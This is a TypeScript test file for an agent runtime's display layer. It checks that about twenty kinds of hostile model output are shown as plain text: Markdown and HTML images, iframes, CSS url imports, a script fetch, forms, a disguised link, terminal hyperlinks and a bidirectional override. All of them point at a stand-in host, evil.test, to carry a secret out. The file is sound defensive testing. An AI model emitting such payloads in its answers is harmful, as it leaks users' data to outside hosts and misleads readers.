/** Answers of agents that would have whoever reads them fetch an address, run a script or trust a false picture. */
import { test } from "vitest";
import { toBundle } from "../../kernel/display/index.ts";
import { reportMarkdown } from "../../kernel/display/run/report-markdown.ts";
import { type DrivenRun, scripted } from "../../runtime/index.ts";
import { expectHarmless } from "../kernel/display/hostile.ts";
import { bundleIn, follow, graphOf } from "../kernel/display/runs.ts";
import { holdCaseCount } from "./attack-table.ts";

const LEAK = "http://evil.test/p.png?q=secret";

const SAYING = `graph Say(task: string) returns report {
  state { report: string = "" }
  agent work { model m; prompt \`\${task}\`; writes report }
  start -> work -> end
}`;

test.each([
  ["a picture in Markdown", `![a](${LEAK})`],
  ["a picture by a reference", `![a][b]\n\n[b]: ${LEAK}`],
  ["a picture with an escaped bracket", `![a\\](${LEAK})`],
  ["a picture in a link", `[![a](${LEAK})](${LEAK})`],
  ["a picture in a table", `| a |\n|---|\n| ![a](${LEAK}) |`],
  ["a picture of HTML", `<img src="${LEAK}">`],
  ["a picture of HTML behind a heading's end", `# a\n</h1><img src=${LEAK}>`],
  ["a picture in a drawing", `<svg><image href="${LEAK}"/></svg>`],
  ["a style", `<style>@import url(${LEAK});</style>`],
  ["a background", `<p style="background:url(${LEAK})">a</p>`],
  ["a frame", `<iframe src="${LEAK}"></iframe>`],
  ["a page that is asked for ahead", `<link rel=prefetch href="${LEAK}">`],
  ["a form", `<form action="${LEAK}"><button>Approve</button></form>`],
  ["a link that poses as another", `[https://example.org](${LEAK})`],
  ["an address alone", LEAK],
  ["a formula with a link", `$\\href{${LEAK}}{x}$`],
  ["a diagram with a link", `\`\`\`mermaid\ngraph LR; a --> b; click a "${LEAK}"\n\`\`\``],
  ["a script", `<script>fetch("${LEAK}")</script>`],
  ["a link of the terminal", `\u001b]8;;${LEAK}\u0007Approve\u001b]8;;\u0007`],
  ["text that runs the other way", "tfel \u202eot thgir"],
])("%s is shown as the text that it is", async (_, said) => {
  const graph = await graphOf(SAYING);
  const models = { m: scripted({ work: said }) };
  const run = graph.run({ task: "Report." }, { models }) as unknown as DrivenRun;
  const { outputs, tick } = follow(run);
  const output = await run.output;
  tick();
  for (const bundle of outputs.map(bundleIn)) expectHarmless(bundle);
  for (const shown of [run, output, run.steps]) expectHarmless(await toBundle(shown));
  expectHarmless({ data: { "text/markdown": await reportMarkdown(said) }, metadata: {} });
});

holdCaseCount();
